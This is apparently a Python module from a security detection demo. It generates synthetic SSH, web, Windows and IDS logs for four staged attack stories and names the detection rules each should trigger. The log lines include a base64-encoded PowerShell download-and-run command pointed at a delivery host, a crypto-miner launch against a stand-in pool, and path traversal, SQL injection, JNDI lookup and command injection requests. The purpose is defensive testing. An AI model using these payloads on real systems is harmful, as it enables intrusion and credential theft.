"""The attacks of the demo. Each teller adds its lines and says what must be found.

Times run back from `end`: the oldest story first.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from datetime import datetime, timedelta

from bigsec.demo.estate import (
    BASTION,
    CHEN,
    DATABASE,
    DELIVERY,
    FILES,
    GUESSER,
    INTRUDER,
    WEB,
    ZHOU,
)
from bigsec.demo.journal import ACCESS, AUTH, EVE, OFFICE, WINDOWS, Journal
from bigsec.demo.render import SYSMON, access, eve, syslog, windows
from bigsec.demo.story import Story, rule_id

Teller = Callable[[Journal, datetime, random.Random], Story]

_GUESSED_NAMES = ("admin", "test", "oracle", "postgres", "ubuntu", "git", "www", "backup", "user1")
_CURL = "curl/8.5.0"
_NIKTO = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_RUNDLL = r"C:\Windows\System32\rundll32.exe"
_WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"


def guessed_root(journal: Journal, end: datetime, dice: random.Random) -> Story:
    """Passwords are guessed over SSH until root's gives way; then a miner runs."""
    at = end - timedelta(hours=5)
    for _ in range(60):
        at += timedelta(seconds=dice.randrange(4, 20))
        pid, port = dice.randrange(20000, 60000), dice.randrange(30000, 65000)
        name = dice.choice((*_GUESSED_NAMES, "root", "root", "root", "root"))
        if name != "root":
            unknown = f"Invalid user {name} from {GUESSER} port {port}"
            journal.add(AUTH, at, syslog(at, BASTION, "sshd", unknown, pid))
        who = "root" if name == "root" else f"invalid user {name}"
        failed = f"Failed password for {who} from {GUESSER} port {port} ssh2"
        journal.add(AUTH, at, syslog(at, BASTION, "sshd", failed, pid))
    at += timedelta(seconds=31)
    for message in (
        f"Accepted password for root from {GUESSER} port 51812 ssh2",
        "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)",
    ):
        journal.add(AUTH, at, syslog(at, BASTION, "sshd", message, 60214))
    at += timedelta(minutes=3)
    order = (
        "root : TTY=pts/2 ; PWD=/tmp/.x ; USER=root ; "
        "COMMAND=/tmp/.x/kworkerd -o stratum+tcp://pool.miner.example:3333 --threads=8"
    )
    journal.add(AUTH, at, syslog(at, BASTION, "sudo", order))
    at += timedelta(minutes=6)
    found = "发现病毒 Linux.Miner.Demo 文件 /tmp/.x/kworkerd 隔离失败"
    journal.add(OFFICE, at, syslog(at, BASTION, "hostguard", found, 331))
    return Story(
        name="guessed-root",
        about="Root's password on the bastion is guessed from outside; a miner is started.",
        rules=(
            rule_id("sshd_invalid_user"),
            rule_id("sshd_failed_password_root"),
            rule_id("sshd_accepted_password_root"),
            rule_id("linux_miner_command"),
            rule_id("linux_malware_not_removed"),
        ),
        entities=(("ip", GUESSER), ("user", "root"), ("host", BASTION.name)),
    )


def web_shell(journal: Journal, end: datetime, dice: random.Random) -> Story:
    """A web server is scanned, attacked in several ways, and answers from an upload folder."""
    at = end - timedelta(hours=3)

    def ask(request: str, status: int, size: int, agent: str = _CURL) -> None:
        nonlocal at
        at += timedelta(seconds=dice.randrange(1, 15))
        line = access(at, INTRUDER, f"{request} HTTP/1.1", status, size, agent)
        journal.add(ACCESS, at, line)

    for path in ("admin", "phpmyadmin", "backup.zip", ".git/HEAD", "server-status", "test.php"):
        ask(f"GET /{path}", 404, 512, _NIKTO)
    ask("GET /download?file=../../../../etc/passwd", 403, 199)
    ask("GET /download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", 403, 199)
    ask("GET /services/permits?district=7%27%20OR%20%271%27=%271", 500, 640)
    ask("GET /services/permits?district=7+UNION+ALL+SELECT+login,hash+FROM+staff--", 500, 640)
    ask("GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.80%2Fa%7D", 200, 7001)
    ask("GET /tools/ping?host=127.0.0.1;id", 200, 1203)
    ask("POST /services/permits/attach", 302, 0)
    for _ in range(4):
        ask("POST /uploads/2026/crest.php", 200, dice.randrange(80, 4000))
    alert = {
        "action": "allowed",
        "gid": 1,
        "signature_id": 9000101,
        "rev": 1,
        "signature": "DEMO WEB_SERVER Command output in response of an uploaded script",
        "category": "Successful Administrator Privilege Gain",
        "severity": 1,
    }
    source, target = (INTRUDER, 40122), (WEB.ip, 80)
    journal.add(EVE, at, eve(at, "alert", source, target, alert=alert, app_proto="http"))
    return Story(
        name="web-shell",
        about="A scan of the public site turns into attacks, then into a web shell that answers.",
        rules=(
            rule_id("web_scanner_user_agent"),
            rule_id("web_path_traversal"),
            rule_id("web_sql_injection"),
            rule_id("web_jndi_lookup"),
            rule_id("web_command_injection"),
            rule_id("web_webshell_post"),
            rule_id("suricata_alert_severe"),
        ),
        entities=(("ip", INTRUDER),),
    )


def stolen_secrets(journal: Journal, end: datetime, dice: random.Random) -> Story:
    """A document starts PowerShell; secrets are read from memory and used on the file server."""
    desk = CHEN.desk
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{DELIVERY}/a')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    folder = rf"C:\Users\{CHEN.login}\AppData\Local\Temp"
    shell = _started(_POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded}", _WORD)
    library = _started(_RUNDLL, rf"rundll32.exe {folder}\upd.dll,Start", _POWERSHELL)
    dump: dict[str, object] = {
        "SourceImage": rf"{folder}\upd.exe",
        "TargetImage": r"C:\Windows\System32\lsass.exe",
        "GrantedAccess": "0x1410",
    }
    service: dict[str, object] = {
        "ServiceName": "WinUpdSvc",
        "ImagePath": r"%COMSPEC% /C echo dir \\127.0.0.1\ADMIN$ > C:\Windows\Temp\r.bat",
        "ServiceType": "user mode service",
        "StartType": "demand start",
        "AccountName": "LocalSystem",
    }
    cleared: dict[str, object] = {"SubjectUserName": CHEN.login, "SubjectDomainName": "CORP"}
    at = end - timedelta(minutes=100)
    for minutes, host, channel, event_id, data, provider in (
        (0, desk, SYSMON, 1, shell, None),
        (2, desk, SYSMON, 1, library, None),
        (9, desk, SYSMON, 10, dump, None),
        (16, FILES, "System", 7045, service, None),
        (18, desk, "Security", 1102, cleared, "Microsoft-Windows-Eventlog"),
    ):
        at += timedelta(minutes=minutes, seconds=dice.randrange(50))
        journal.add(WINDOWS, at, windows(at, host, channel, event_id, data, provider))
    return Story(
        name="stolen-secrets",
        about="A document starts PowerShell, log-on secrets are read, the trail is wiped.",
        rules=(
            rule_id("win_powershell_encoded_command"),
            rule_id("win_script_proxy_remote_code"),
            rule_id("win_lsass_memory_access"),
            rule_id("win_service_runs_command"),
            rule_id("win_audit_log_cleared"),
        ),
        entities=(("host", desk.fqdn), ("host", FILES.fqdn)),
    )


def _started(image: str, command: str, parent: str) -> dict[str, object]:
    """What Sysmon tells of a program that chen.hao's session started."""
    return {
        "ProcessId": 7120,
        "Image": image,
        "OriginalFileName": image.rsplit("\\", 1)[-1],
        "CommandLine": command,
        "User": rf"CORP\{CHEN.login}",
        "IntegrityLevel": "Medium",
        "ParentImage": parent,
    }


def borrowed_rights(journal: Journal, end: datetime, dice: random.Random) -> Story:
    """Someone on loan tries for root on the database and gets there by sudo."""
    at = end - timedelta(minutes=25)
    for _ in range(3):
        at += timedelta(seconds=dice.randrange(8, 30))
        for message in (
            f"pam_unix(su:auth): authentication failure; logname={ZHOU.login} uid={ZHOU.uid} "
            f"euid=0 tty=/dev/pts/1 ruser={ZHOU.login} rhost=  user=root",
            f"FAILED SU (to root) {ZHOU.login} on pts/1",
        ):
            journal.add(AUTH, at, syslog(at, DATABASE, "su", message, 41877))
    at += timedelta(minutes=2)
    order = f"{ZHOU.login} : TTY=pts/1 ; PWD=/home/{ZHOU.login} ; USER=root ; COMMAND=/bin/bash"
    journal.add(AUTH, at, syslog(at, DATABASE, "sudo", order))
    return Story(
        name="borrowed-rights",
        about="Someone on loan fails to become root by su, then takes a root shell by sudo.",
        rules=(rule_id("su_failed_root"), rule_id("sudo_root_shell")),
        entities=(("user", ZHOU.login), ("host", DATABASE.name)),
    )


STORIES: tuple[Teller, ...] = (guessed_root, web_shell, stolen_secrets, borrowed_rights)
